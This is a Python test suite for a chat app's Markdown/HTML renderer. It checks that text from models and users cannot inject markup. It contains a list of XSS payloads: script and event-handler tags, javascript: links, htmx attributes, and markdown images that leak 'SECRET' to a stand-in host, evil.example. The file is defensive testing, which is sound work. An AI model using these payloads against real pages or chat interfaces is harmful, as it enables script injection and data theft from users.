"""Text of the model, the user and others becomes harmless HTML."""

import re
import time
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from apps.core import MESSAGE
from apps.tables import Field, Row, Table
from apps.todo.store import TODO
from bus.messages import LlmListed, LlmPulled
from web.html.assistant_settings import assistant_settings
from web.html.chat.chat import article
from web.html.chat.conversations import conversation_menu
from web.html.chat.markdown import LONGEST_RENDERED, TAGS, render
from web.html.controls import status_light
from web.html.markdown import math
from web.html.markdown.emphasis import emphasis
from web.html.models.get_dialog import get_dialog
from web.html.models.menu import model_menu
from web.html.models.model_dialog import model_dialog
from web.html.models.servers_dialog import key_dialog, servers_dialog
from web.html.page import page
from web.html.parts.fragments import html
from web.html.rows.rows import row_item
from web.live.writing.draft import Draft
from web.state.page_view import PageView
from web.state.pulls import Pull
from web.state.servers import ServerEntry
from web.state.talks.lists import TalkList
from web.why.dialog import why_dialog
from web.why.reasons import Link, Reasons, Told

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<a href=javascript:alert(1)>x</a>",
    '<base href="http://evil.example/">',
    '<meta http-equiv=refresh content="0;url=http://evil.example">',
    "<form action=http://evil.example><input name=a></form>",
    '<div hx-get="/" hx-on:click="alert(1)" data-hx-post="/" hx-swap-oob="true" id="app">x</div>',
    "<style>@import 'http://evil.example'</style>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x](&#106;avascript:alert(1))",
    '[x](https://a.example "<pre> onmouseover=alert(1)")',
    "[x](https://a.example/<pre>onmouseover=alert(1))",
    "![x](http://evil.example/?d=SECRET)",
    "![x][1]\n\n[1]: http://evil.example/?d=SECRET",
    '<img srcset="http://evil.example 2x">',
    '<p style="background:url(http://evil.example)">x</p>',
    '<link rel=prefetch href="http://evil.example">',
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    '```json\n{"operation": "</pre><script>alert(1)</script>"}\n```',
    "|<script>|<img src=x>|\n|---|---|\n|`<b>`|</td><td onclick=alert(1)>|",
    "</div></article><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
]

OURS = {"div", "button", "details", "summary"}
"""Elements that the page itself puts around code and tables."""

HARMLESS = {
    *("href", "target", "rel", "start", "class", "tabindex", "type", "aria-label", "title"),
    *("data-copy", "data-download", "data-language"),
    *(name for names in math.ATTRIBUTES.values() for name in names),
}


class Elements(HTMLParser):
    """Collects the elements of a piece of HTML, as a browser would."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.open: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag not in {"br", "hr", "input", "meta", "link"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(rendered: str) -> None:
    elements = Elements(rendered)
    assert elements.open == []
    for tag, attributes in elements.found:
        assert tag in TAGS | OURS
        assert set(attributes) <= HARMLESS
        assert re.match(r"(https?|mailto):", attributes.get("href") or "https:")
        if tag == "a":
            assert (attributes["target"], "noopener" in str(attributes["rel"])) == ("_blank", True)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_attack_is_shown_as_text(payload: str) -> None:
    assert_harmless(render(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_attack_that_arrives_in_pieces_is_harmless_after_each(payload: str) -> None:
    for end in range(len(payload)):
        assert_harmless(render(payload[:end]))


@settings(deadline=None, max_examples=150)
@given(
    st.lists(st.sampled_from([*PAYLOADS, "`", "```", "\n", "|", "<", ">", '"', "&", "<pre>", "</pre>", "[x](", ")"]))
)
def test_attacks_that_are_mixed_are_harmless(pieces: list[str]) -> None:
    assert_harmless(render("".join(pieces)))


def test_markdown_becomes_what_it_means() -> None:
    rendered = render("# Title\n\n*a* **b** ~~c~~ `d` <https://e.example>\n\n1. one\n2. two\n\n|x|y|\n|-|-|\n|1|2|")

    tags = [tag for tag, _ in Elements(rendered).found]
    assert {"h1", "em", "strong", "s", "code", "a", "ol", "li", "table", "th", "td"} <= set(tags)


def test_code_is_highlighted_and_can_be_copied() -> None:
    rendered = render("```python\nreturn '<b>'\n```")

    assert '<span class="k">return</span>' in rendered
    assert 'data-copy="code"' in rendered
    assert Elements(rendered).text == "return '<b>'\n"


def test_code_of_no_known_language_is_left_as_it_is() -> None:
    assert Elements(render("```nonsense\na <b> & c\n```")).text == "a <b> & c\n"


def test_an_instruction_in_an_answer_is_folded() -> None:
    order = '```json\n{"operation": "delete", "table": "todo", "id": 1}\n```\n'
    text = f"Yes.\n\n{order}\nDone."
    row = message(role="assistant", text=text, detail={"spans": [[6, 6 + len(order)]]})

    found = Elements(html(article(row, {}))).found

    tags = [tag for tag, attributes in found if tag == "p" or (tag == "details" and "order" in attributes["class"])]
    assert tags == ["p", "details", "p"]


def test_an_answer_tells_what_differed_from_what_the_user_expects() -> None:
    row = message(role="assistant", text="Yes.", model="small:1b", detail={"instead_of": "large", "left_out": 1_234})

    text = Elements(html(article(row, {}))).text

    assert "“large” is not there, so “small:1b” answered." in text
    assert "it did not read 1,234 characters in the middle" in text


@pytest.mark.parametrize("text", ["", "\n\n", "\0", "\u202eabc", "👩‍👩‍👧", "אבג", "a\u0085b", "\u2028"])
def test_odd_texts_are_rendered(text: str) -> None:
    assert_harmless(render(text))


@pytest.mark.parametrize("piece", ["[", "![", "*a ", "_a", "`a", "<", "[a](b", "> ", "|a|\n|-|\n", "- a\n  ", "&"])
def test_no_text_takes_long(piece: str) -> None:
    text = (piece * LONGEST_RENDERED)[:LONGEST_RENDERED]
    started = time.process_time()

    render(text)

    assert time.process_time() - started < 3


def test_a_text_too_long_to_render_is_shown_whole() -> None:
    text = "<b>x</b> " * 20_000

    assert Elements(render(text)).text == text


# --- the same, wherever else a text of others is shown ---


def message(**values: Any) -> Row:
    return {"id": 1, **{one.name: one.empty for one in MESSAGE.fields}, **values}


def view(**values: Any) -> PageView:
    return PageView(revision=1, tab="tab", app="todo", apps={"todo": ""}, table=TODO, **values)


def reasons(text: str) -> Reasons:
    told = Told(text, text, text, ((text, text, text), ("layer", text, text), ("turn", text, text)))
    answer = message(role="assistant", text=text, detail={"calls": [{"function": {"name": text}}]})
    return Reasons((Link(text or "…", (text,), 1), Link(text or "…")), answer, told)


def shown(text: str) -> dict[str, str]:
    """Return the HTML of each place that shows a text from outside."""
    detail = {"instruction": {"operation": text}, "change": 1, "changes": [1], "table": text, "row": text}
    would = [{"operation": "update", "table": text, "row": 1, "before": {text: text}, "after": {text: f"{text}!"}}]
    proposed = {"instruction": {"operation": text}, "would": would}
    spans = {"spans": [[0, len(text)]], "tokens": {"window": 100, "prompt": 1}}
    personas = [{"name": text, "title": text, "words": 1, "problem": text}]
    conversation = {"id": 1, "title": text, "created": 0.0}
    models = LlmListed(player="ollama", default=text, models=[{"name": text, "size": 1}], problem=text)
    server = ServerEntry(text, text, text, local=False, file=text, has_key=True, problem=text)
    offer = dict.fromkeys(("name", "server", "title", "licence", "from", "address", "problem"), text)
    pull = Pull(LlmPulled(model="another", state="running", note=text, host=text), text)
    end = LlmPulled(model=text, state="failed", problem=text)
    return {
        "user": html(article(message(role="user", text=text), {})),
        "answer": html(article(message(role="assistant", text=text, thinking=text, model=text, problem=text), {})),
        "instruction": html(article(message(role="assistant", text=text, detail=spans), {})),
        "folded": html(article(message(role="assistant", text=f"x\n\n{text}", detail={"folded": [1, 1]}), {})),
        "note": html(article(message(role="assistant", purpose="note", text=text), {})),
        "proposal": html(article(message(role="action", state="proposed", text=text, detail=proposed), {})),
        "personas": html(assistant_settings(view(settings={"personas": personas, "persona": text}))),
        "why": html(why_dialog(reasons(text))),
        "streaming": html(article(message(role="assistant", state="streaming", model=text), {}, Draft(text).html)),
        "action": html(article(message(role="action", state="applied", text=text, detail=detail, problem=text), {})),
        "row": html(row_item(TODO, {"id": 1, "title": text, "done": False, "created": 0.0, "position": 1.0})),
        "row id": html(row_item(TODO, {"id": text, "title": "x", "done": False, "created": 0.0, "position": 1.0})),
        "conversations": html(
            conversation_menu(view(conversation=conversation, conversations=TalkList((conversation,))))
        ),
        "models": html(model_menu(view(models=models))),
        "model dialog": html(
            model_dialog(
                {"name": text, "server": text, "capabilities": [text], "local": False},
                view(models=replace(models, servers=[{"name": text, "address": text, "problem": text}])),
            )
        ),
        "servers": html(servers_dialog(view(servers=(server,), server_problems=(text,))), key_dialog(server)),
        "getting": html(get_dialog(view(models=replace(models, offers=[offer]), pulls=(pull, replace(pull, now=end))))),
        "status": html(status_light(view(missing=(text,)))),
        "page": page(view(conversation=conversation, models=models, settings={"theme": text, "mode": text}), "hash"),
    }


def elements_of(text: str) -> Counter[str]:
    return Counter(tag for tag, _ in Elements(text).found)


MARKDOWN = ("answer", "folded", "note", "streaming")
"""The places that show Markdown."""
CALM = {place: elements_of(text) for place, text in shown("calm").items()}


MORE = {**dict.fromkeys(("answer", "folded", "note", "streaming"), TAGS | OURS), "row": {"a"}}
"""By place: the elements that a text may make there. An address in the title of a row is a link."""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_attack_makes_no_element_anywhere(payload: str) -> None:
    for place, text in shown(payload).items():
        added = elements_of(text) - CALM[place]
        assert set(added) <= {"code"} | MORE.get(place, set()), place
        names = {name for _, attributes in Elements(text).found for name in attributes}
        assert not any(
            name.startswith(("on", "hx-on", "hx-get", "data-hx", "style", "src")) for name in names - {"src"}
        )


def test_the_page_names_no_other_host() -> None:
    text = page(view(), "hash").replace("http://www.w3.org/2000/svg", "").replace("http://127.0.0.1:8080", "an example")

    assert not re.search(r"https?:|//[a-z]", text.replace("127.0.0.1", ""))
    assert "<style" not in text
    assert " style=" not in text
    assert not re.search(r"<script[^>]*>[^<]", text)


def test_a_proposal_with_an_impossible_date_is_still_shown() -> None:
    table = Table("event", (Field("title", required=True), Field("at", "time")), label="an event")
    would = [{"operation": "insert", "table": "event", "row": 0, "before": {}, "after": {"title": "x", "at": 1e300}}]
    row = message(role="action", state="proposed", text="Add x?", detail={"would": would})

    assert "1e+300" in html(article(row, {"event": table}))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("これは**「重要」**な点です。", "これは<strong>「重要」</strong>な点です。"),
        ("**「A」**なので**「B」**です。", "<strong>「A」</strong>なので<strong>「B」</strong>です。"),
        ("我们**必须（！）**去", "我们<strong>必须（！）</strong>去"),
        ("이것은**“중요”**합니다", "이것은<strong>“중요”</strong>합니다"),
        ("これは*「弱い」*強調", "これは<em>「弱い」</em>強調"),
        ("明天***“都”***去", "明天<em><strong>“都”</strong></em>去"),
        ("a**“b”**c", "a**“b”**c"),
        (
            "2 * 3 * 4, snake_case_name, **bold**, *it*",
            "2 * 3 * 4, snake_case_name, <strong>bold</strong>, <em>it</em>",
        ),
    ],
)
def test_emphasis_beside_letters_of_scripts_without_blanks(text: str, expected: str):
    assert render(text) == f"<p>{expected}</p>"


@settings(max_examples=200, deadline=None)
@given(text=st.text(alphabet="ab é*_ .“”(!\\\n", max_size=30))
def test_emphasis_elsewhere_is_that_of_commonmark(text: str):
    plain = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    ours = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    ours.inline.ruler.at("emphasis", emphasis)

    assert ours.render(text) == plain.render(text)


# --- what models write beyond CommonMark ---


@pytest.mark.parametrize(
    ("text", "formulas"),
    [
        (r"So \(E=mc^2\) and $x_i$.", 2),
        ("$$\na\n= b\n- c\n$$", 1),
        ("\\[\n\\begin{aligned}a&=b\\\\c&=d\\end{aligned}\n\\]", 1),
        ("> $$x$$\n\n1. $y$\n\n| $z$ |\n|---|", 3),
        ("$5 or $10, $5-$10, 5$ and 6$, US$ 5, (US$) or $7 (CA$), $20 each for $ 3", 0),
        (r"`$x$` \$x\$ $ x$ $x $ $$", 0),
        ("```\n$x$\n```", 0),
    ],
)
def test_formulas_are_drawn_and_prices_stay_prices(text: str, formulas: int) -> None:
    assert [tag for tag, _ in Elements(render(text)).found].count("math") == formulas


@pytest.mark.parametrize(
    "text",
    [
        r"$\unknown{x}$",
        r"\(\href{javascript:alert(1)}{x}\)",
        r"\[\frac{a\]",
        "$" + "{" * 101 + "x" + "}" * 101 + "$",
        "$x" + "+x" * 2_000 + "$",
        r"\(" + r"\left(" * 101 + "x" + r"\right)" * 101 + r"\)",
    ],
)
def test_a_formula_that_cannot_be_drawn_stays_as_it_was_written(text: str) -> None:
    assert Elements(render(text)).text == text


def test_a_formula_has_only_what_the_page_allows() -> None:
    rendered = render(r"$$\begin{aligned}\color{red}{\text{<script>x</script>}}&=\boxed{b}\\ c&=[d]_i\end{aligned}$$")

    assert_harmless(rendered)
    assert "math" in [tag for tag, _ in Elements(rendered).found]
    assert ' style="' not in rendered


def test_bare_links_lead_where_they_say() -> None:
    text = (
        "See https://a.example/b_c?x=1&y=(2). (https://b.example), [c](https://c.example) `https://d.example` https://"
    )

    links = [attributes["href"] for tag, attributes in Elements(render(text)).found if tag == "a"]

    assert links == ["https://a.example/b_c?x=1&y=(2)", "https://b.example", "https://c.example"]
    assert_harmless(render(text))


def test_a_list_of_tasks_shows_what_is_done() -> None:
    assert "☐" not in render("- `[ ] code`")
    assert Elements(render("- [ ] one\n- [x] *two*\n- [x](https://a.example)")).text.split() == [
        "☐",
        "one",
        "☑",
        "two",
        "x",
    ]


def test_code_names_its_language_and_long_code_can_be_saved() -> None:
    code = "```python\n" + "x = 1\n" * 41 + "```"
    short = "```c++\nint x;\n```"

    assert 'data-language="python"' in render(code)
    assert 'data-download="code.py"' in render(code)
    assert 'data-language="c++"' in render(short)
    assert "data-download" not in render(short)
    assert_harmless(render('```x"onclick=alert(1)\nx\n```'))


def test_a_diff_is_coloured_also_when_its_language_is_not_named() -> None:
    for language in ("diff", ""):
        rendered = render(f"```{language}\n--- a\n+++ b\n@@ -1 +1 @@\n-x\n+y\n```")
        assert '<span class="gd">-x</span>' in rendered
        assert '<span class="gi">+y</span>' in rendered


def test_markdown_as_code_keeps_the_fences_in_it() -> None:
    rendered = render("```markdown\nLook:\n```python\nx\n```\nMore.\n```\nAfter *it*.")

    assert Elements(rendered).text == "Look:\n```python\nx\n```\nMore.\n\nAfter it."


def test_a_problem_is_told_in_words_and_what_the_server_said_is_folded() -> None:
    said = '{"error": {"message": "out of breath", "code": [500]}}'
    row = message(
        role="assistant", state="failed", problem=f"Ollama at http://a answers HTTP 500: {said}. Try again in a moment."
    )

    rendered = html(article(row, {}))

    assert "<p>Ollama at http://a answers HTTP 500. Try again in a moment.</p>" in rendered
    folded = rendered[rendered.index("What the server said") :]
    assert folded.index("out of breath") < folded.index("</details>")
    assert rendered.count("out of breath") == 1


def test_thoughts_say_how_long_they_took() -> None:
    row = message(role="assistant", text="Yes.", thinking="Hm.", detail={"tokens": {"think_seconds": 12.3}})

    assert "Thought for 12 s" in html(article(row, {}))
    assert "Thoughts" in html(article({**row, "detail": {"tokens": {"think_seconds": "x"}}}, {}))
